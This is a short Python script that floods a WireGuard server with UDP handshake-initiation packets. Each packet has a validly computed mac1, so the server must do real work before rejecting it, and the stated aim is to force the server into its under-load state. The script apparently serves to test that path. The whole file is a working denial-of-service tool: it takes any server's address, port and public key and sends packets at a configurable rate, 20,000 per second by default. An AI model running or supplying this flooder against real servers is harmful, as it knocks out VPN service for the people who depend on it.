# SPDX-License-Identifier: MIT
"""Floods a WireGuard server by UDP with handshake initiations whose mac1 is valid, so that it calls itself under load.

    initiations.py ADDRESS PORT PUBLIC-KEY [--rate PER_SECOND] [--seconds S]

Each is made of random bytes: what is in it only the server can tell from an authentic one, at the price of its work.
"""

import argparse
import base64
import hashlib
import os
import signal
import socket
import sys
import time

MADE = 4000


def initiation(key):
    body = b"\x01\0\0\0" + os.urandom(112)
    return body + hashlib.blake2s(body, key=key, digest_size=16).digest() + bytes(16)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("address")
    parser.add_argument("port", type=int)
    parser.add_argument("key")
    parser.add_argument("--rate", type=float, default=20000)
    parser.add_argument("--seconds", type=float, default=60)
    args = parser.parse_args()
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    key = hashlib.blake2s(b"mac1----" + base64.b64decode(args.key)).digest()
    messages = [initiation(key) for _ in range(MADE)]
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    out.connect((args.address, args.port))
    print("ready", flush=True)
    start, sent = time.monotonic(), 0
    while time.monotonic() < start + args.seconds:
        for _ in range(100):
            try:
                out.send(messages[sent % MADE])
            except OSError:
                pass
            sent += 1
        ahead = sent / args.rate - (time.monotonic() - start)
        if ahead > 0:
            time.sleep(ahead)
    return 0


if __name__ == "__main__":
    sys.exit(main())
